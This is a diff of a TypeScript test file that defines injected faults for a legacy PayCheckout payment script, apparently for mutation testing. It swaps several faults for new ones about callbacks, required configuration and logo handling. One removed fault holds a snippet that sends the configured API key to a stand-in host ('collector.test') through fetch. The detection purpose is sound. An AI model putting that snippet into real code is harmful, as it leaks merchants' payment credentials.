@@ -25,13 +25,6 @@ const inThePage: readonly Fault[] = [
       `PayCheckout.configure = ({ callback }) => ({ launch: () => void setTimeout(() => callback(${success})) });`,
     ),
   }),
-  fault('legacy-checkout-key-sent-elsewhere', 'legacy.checkout.key', {
-    summary: 'The checkout script sends the API key to another host.',
-    ...afterwards(`PayCheckout.configure = (config) => {
-    fetch('https://collector.test/?key=' + config.key, { mode: 'no-cors' }).catch(() => {});
-    return configure(config);
-  };`),
-  }),
   fault('legacy-checkout-needs-secret', 'legacy.checkout.key', {
     summary: 'The checkout cannot be configured without the secret.',
     ...afterwards(`PayCheckout.configure = (config) => {
@@ -43,22 +36,26 @@ const inThePage: readonly Fault[] = [
     summary: 'The checkout calls Authorize with another key than it was configured with.',
     ...afterwards(`PayCheckout.configure = (config) => configure({ ...config, key: 'api_other' });`),
   }),
-  fault('legacy-checkout-callback-twice', 'legacy.checkout.callback', {
-    summary: 'The callback of the checkout is called twice.',
+  fault('legacy-checkout-second-call-other-id', 'legacy.checkout.callback', {
+    summary: 'The callback of the checkout is called a second time, with the id of another payment.',
     ...afterwards(`PayCheckout.configure = (config) => configure({
     ...config,
-    callback: (reply) => [1, 2].forEach(() => config.callback(reply)),
+    callback: (reply) => [reply, { ...reply, payment_id: 'pay_another00000000000' }].forEach((one) => config.callback(one)),
   });`),
   }),
-  fault('legacy-checkout-form-stopped', 'legacy.checkout.form', {
-    summary: 'The checkout stops the form that the callback submits.',
-    ...afterwards(`PayCheckout.configure = (config) => configure({
-    ...config,
-    callback: (reply) => {
-      config.callback(reply);
-      window.stop();
-    },
-  });`),
+  fault('legacy-checkout-needs-callback', 'legacy.checkout.callback-optional', {
+    summary: 'The checkout cannot be configured without a callback.',
+    ...afterwards(`PayCheckout.configure = (config) => {
+    if (config.callback === undefined) throw new TypeError('callback is missing');
+    return configure(config);
+  };`),
+  }),
+  fault('legacy-checkout-opens-only-with-callback', 'legacy.checkout.callback-optional', {
+    summary: 'The checkout does not open where there is no callback.',
+    ...afterwards(`PayCheckout.configure = (config) => {
+    const configured = configure(config);
+    return { launch: (data) => config.callback && configured.launch(data) };
+  };`),
   }),
   fault('legacy-checkout-opens-when-configured', 'legacy.checkout.user-action', {
     summary:
@@ -105,9 +102,9 @@ const inTheDialog: readonly Fault[] = [
       toldOf: `(reply) => [reply.status === 'authorize_fail' ? ${success} : reply]`,
     }),
   }),
-  fault('legacy-checkout-refusal-not-told', 'legacy.checkout.callback', {
-    summary: 'The callback is not called where the consumer is refused.',
-    ...deciding({ toldOf: `(reply) => (reply.status === 'authorize_success' ? [reply] : [])` }),
+  fault('legacy-checkout-success-not-told', 'legacy.checkout.callback', {
+    summary: 'The checkout ends without a call of the callback.',
+    ...deciding({ toldOf: `() => []` }),
   }),
   fault('legacy-checkout-pin-not-asked', 'legacy.checkout.pin', {
     summary: 'The checkout does not ask the consumer for the PIN.',
@@ -132,9 +129,9 @@ const inTheDialog: readonly Fault[] = [
     summary: 'The checkout ignores the logo of the shop.',
     ...deciding({ logoOf: `() => undefined` }),
   }),
-  fault('legacy-checkout-no-service-logo', 'legacy.checkout.logo', {
-    summary: 'The checkout shows no logo where the shop has none.',
-    ...deciding({ serviceLogo: `'none.svg'` }),
+  fault('legacy-checkout-logo-png-alone', 'legacy.checkout.logo', {
+    summary: 'The checkout shows no logo but those that are PNG.',
+    ...deciding({ logoOf: `(config) => (config.logo_url?.endsWith('.png') ? config.logo_url : undefined)` }),
   }),
   fault('legacy-checkout-square-logo', 'legacy.checkout.logo', {
     summary: 'The checkout shows the logo in a square.',
